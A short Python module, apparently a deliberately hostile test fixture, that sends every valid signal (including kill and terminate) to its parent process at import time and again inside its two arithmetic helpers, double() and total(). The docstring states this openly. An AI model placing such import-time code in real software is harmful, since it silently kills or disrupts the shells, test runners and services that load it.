"""Sends its parent every signal that there is, at import and in each call."""

import os
import signal


def pester():
    for number in signal.valid_signals():
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass


pester()


def double(number):
    pester()
    return 2 * number


def total(numbers):
    pester()
    return sum(2 * number for number in numbers)
